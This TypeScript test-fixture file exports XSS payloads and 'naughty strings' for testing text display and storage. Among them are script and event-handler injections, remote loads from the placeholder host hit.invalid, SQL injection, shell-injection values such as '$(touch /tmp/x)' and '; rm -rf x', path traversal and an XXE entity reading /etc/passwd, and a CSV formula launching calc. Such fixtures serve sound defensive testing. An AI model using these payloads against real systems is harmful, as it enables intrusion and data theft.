/**
 * Words that have broken programs elsewhere: markup that wants to run, and texts that somebody forgot. Of our own
 * making. Whatever shows or keeps text is tried with them (G1, G2).
 */

const words = (text: TemplateStringsArray) => (text.raw[0] ?? '').split('\n').filter(Boolean);

/** What a payload does when it runs: the page then knows, and asks for something. */
const RUN = "globalThis.wasRun=1;fetch('https://hit.invalid/')";

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'iframe src=about:blank',
  'object data=x',
  'embed src=x',
  'form',
  'a href=x autofocus tabindex=1',
  'style',
  'table background=x',
  'math',
  'template',
  'button autofocus',
  'select autofocus',
  'x contenteditable autofocus tabindex=1',
];
const EVENTS = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onanimationstart'];

const made = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${RUN}>`));

const written = words`
<script>globalThis.wasRun=1</script>
<ScRiPt>globalThis.wasRun=1</sCrIpT>
<script src="https://hit.invalid/x.js"></script>
<script>globalThis.wasRun=1
</script><script>globalThis.wasRun=1</script>
"><script>globalThis.wasRun=1</script>
'><script>globalThis.wasRun=1</script>
</title><script>globalThis.wasRun=1</script>
</textarea><script>globalThis.wasRun=1</script>
</style><script>globalThis.wasRun=1</script>
--><script>globalThis.wasRun=1</script>
]]><script>globalThis.wasRun=1</script>
<<script>globalThis.wasRun=1//<</script>
<scr<script>ipt>globalThis.wasRun=1</scr</script>ipt>
<script/x>globalThis.wasRun=1</script>
" onmouseover="globalThis.wasRun=1
' autofocus onfocus='globalThis.wasRun=1
\` onerror=\`globalThis.wasRun=1
<img src="javascript:globalThis.wasRun=1">
<img src=x onerror="&#103;lobalThis.wasRun=1">
<img/src/onerror=globalThis.wasRun=1>
<img src="https://hit.invalid/pixel.png">
<img srcset="https://hit.invalid/a.png 1x">
<svg><script>globalThis.wasRun=1</script></svg>
<svg><animate onbegin=globalThis.wasRun=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:globalThis.wasRun=1"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='globalThis.wasRun=1'/>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>globalThis.wasRun=1</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=globalThis.wasRun=1>
<math href="javascript:globalThis.wasRun=1">x</math>
<iframe srcdoc="<script>parent.wasRun=1</script>"></iframe>
<iframe src="javascript:parent.wasRun=1"></iframe>
<object data="data:text/html,<script>globalThis.wasRun=1</script>"></object>
<embed src="data:text/html,<script>globalThis.wasRun=1</script>">
<form action="https://hit.invalid/"><button>x</button></form>
<form id=x></form><button form=x formaction="javascript:globalThis.wasRun=1">x</button>
<meta http-equiv=refresh content="0;url=https://hit.invalid/">
<meta http-equiv=refresh content="0;url=javascript:globalThis.wasRun=1">
<base href="https://hit.invalid/">
<link rel=stylesheet href="https://hit.invalid/x.css">
<link rel=import href="https://hit.invalid/x.html">
<link rel=prefetch href="https://hit.invalid/">
<style>@import "https://hit.invalid/x.css";</style>
<style>body{background:url(https://hit.invalid/x.png)}</style>
<style>*{display:none!important}</style>
<div style="background:url(https://hit.invalid/x.png)">x</div>
<div style="position:fixed;inset:0;background:red">x</div>
<div style="width:expression(globalThis.wasRun=1)">x</div>
<a href="javascript:globalThis.wasRun=1">x</a>
<a href="JaVaScRiPt:globalThis.wasRun=1">x</a>
<a href="java&#10;script:globalThis.wasRun=1">x</a>
<a href="&#x6A;avascript:globalThis.wasRun=1">x</a>
<a href="data:text/html,<script>globalThis.wasRun=1</script>">x</a>
<a href="vbscript:globalThis.wasRun=1">x</a>
<a ping="https://hit.invalid/" href="https://hit.invalid/">x</a>
<isindex type=image src=1 onerror=globalThis.wasRun=1>
<bgsound src="https://hit.invalid/x.mp3">
<applet code="x" archive="https://hit.invalid/x.jar"></applet>
<layer src="https://hit.invalid/"></layer>
<frameset onload=globalThis.wasRun=1><frame src="https://hit.invalid/"></frameset>
<plaintext>
<xmp><script>globalThis.wasRun=1</script></xmp>
<noscript><p title="</noscript><img src=x onerror=globalThis.wasRun=1>">
<template><script>globalThis.wasRun=1</script></template>
<slot onslotchange=globalThis.wasRun=1></slot>
<dialog open onclose=globalThis.wasRun=1><form method=dialog><button>x</button></form></dialog>
<video poster="https://hit.invalid/x.png"><source onerror=globalThis.wasRun=1></video>
<portal src="https://hit.invalid/" onload=globalThis.wasRun=1></portal>
<!--[if gte IE 4]><script>globalThis.wasRun=1</script><![endif]-->
<!-- --!><script>globalThis.wasRun=1</script> -->
<?xml-stylesheet href="javascript:globalThis.wasRun=1"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
&lt;script&gt;globalThis.wasRun=1&lt;/script&gt;
&#60;script&#62;globalThis.wasRun=1&#60;/script&#62;
\\u003cscript\\u003eglobalThis.wasRun=1\\u003c/script\\u003e
\\x3cscript\\x3eglobalThis.wasRun=1\\x3c/script\\x3e
%3Cscript%3EglobalThis.wasRun=1%3C/script%3E
+ADw-script+AD4-globalThis.wasRun=1+ADw-/script+AD4-
＜script＞globalThis.wasRun=1＜/script＞
javascript:globalThis.wasRun=1
javascript://%0aglobalThis.wasRun=1
data:text/html,<script>globalThis.wasRun=1</script>
[x](javascript:globalThis.wasRun=1)
![x](https://hit.invalid/x.png)
![x" onerror="globalThis.wasRun=1](x)
<https://hit.invalid/" onmouseover="globalThis.wasRun=1>
https://hit.invalid/"onmouseover="globalThis.wasRun=1
https://hit.invalid/<script>globalThis.wasRun=1</script>
{{constructor.constructor('globalThis.wasRun=1')()}}
\${globalThis.wasRun=1}
<%= globalThis.wasRun=1 %>
#{globalThis.wasRun=1}
{"__html":"<img src=x onerror=globalThis.wasRun=1>"}
{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}
`;

/** Markup that runs, loads, covers or sends where it is taken for markup; each at most as long as a topic may be. */
export const MARKUP: readonly string[] = [...written, ...made];

const plain = words`
undefined
null
NaN
true
false
Infinity
-Infinity
nil
None
0
-0
1e1000
0x0
0/0
007
1,000.00
9999999999999999999999
2147483648
-1
1.7976931348623157e309
__proto__
constructor
prototype
toString
hasOwnProperty
valueOf
then
length
[object Object]
[]
{}
{"a":1}
[[[[[[[[[[]]]]]]]]]]
"
'
\`
\\
\\\\
\\0
''''
""""
;--
' OR 1=1 --
1; DROP TABLE messages
" OR ""="
' UNION SELECT text FROM messages --
%' AND 1=1 --
MATCH 'x' NEAR 'y'
a AND NOT b OR (c
* " ^ : -
NEAR(a b)
\$(touch /tmp/x)
\`id\`
; rm -rf x
| cat
&& echo
> /dev/null
-rf
--help
%s%s%s%n
%x %d %p
%00
%0d%0aSet-Cookie: x=1
{0} {name} {{name}} %{name} \${name}
\$t(common.appName)
{{count}}
\$& \$1 \$\` \$'
../../../../etc/passwd
..\\..\\windows\\system32
C:\\x
\\\\?\\C:\\x
\\\\host\\share
CON
AUX.txt
/dev/null
~root
*.*
# Heading
**bold** _it_ ~~no~~
1. one
- two
> quote
@everyone
@here
#lobby
:smile:
/me waves
/quit
=1+1
=cmd|' /C calc'!A0
+1
http://
https://
mailto:
1970-01-01T00:00:00Z
2038-01-19
24:60
(?:a+)+$
^$
[a-z
Straße
İstanbul
ıI iİ
ŉ ß ﬁ ﬀ
ǅ ǆ
Ω Ω
Å Å
ÅÅ
é é
ﷺ
ก็็็็็็็็็็
Z̵̢̛a̶l̸g̷o̴
ａｂｃ
①②③
𝕳𝖊𝖑𝖑𝖔
田中さんにあげて下さい
社會科學院語學研究所
찦차를 타고 온
表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀
שלום עולם
مرحبا بالعالم
الكل في المجمو عة (5)
हिन्दी में
ಠ_ಠ
(｡◕ ∀ ◕｡)
¯\\_(ツ)_/¯
😀👍🏽👨‍👩‍👧‍👦🏳️‍🌈🇩🇪
🏴󠁧󠁢󠁥󠁮󠁧󠁿
1️⃣2️⃣
❤️❤
`;

/** Texts that somebody forgot: each is a message, and nothing in it is special. */
export const NAUGHTY: readonly string[] = [
  ...plain,
  // What cannot be seen in a list.
  'a\nb\r\nc\rd',
  'tab\there',
  '\u00A0no-break\u00A0',
  '\u2003wide\u3000spaces\u2003',
  'x\u200By\u200Cz\u200Dw',
  '\uFEFFmark',
  'a\u00ADb',
  '\u202Eright to left\u202C',
  '\u2066isolate\u2069\u2067x\u2069',
  '\u2069\u2069\u202C\u202C',
  'a\u2028b\u2029c',
  'bell\u0007 back\u0008 escape\u001B[31m',
  'delete\u007F next\u0085 line',
  'private\uE000\u{F0000}\u{10FFFF}',
  'not a character\uFFFE\uFFFF\u{1FFFE}',
  'replaced\uFFFD',
  'braille\u2800blank',
  'filler\u3164\u115F\u1160\uFFA0',
  'tags\u{E0041}\u{E007F}',
  'notes\u{1D159}',
  'o\u0308\u0304',
  '\u0301starts with a mark',
  'e\u0301'.repeat(50),
  '\u0E47'.repeat(100),
  'W'.repeat(500),
  'word '.repeat(400),
  '漢'.repeat(1_000),
  '👩‍👩‍👧‍👦'.repeat(200),
  '\n'.repeat(50) + 'x',
  `${'('.repeat(300)}${')'.repeat(300)}`,
];
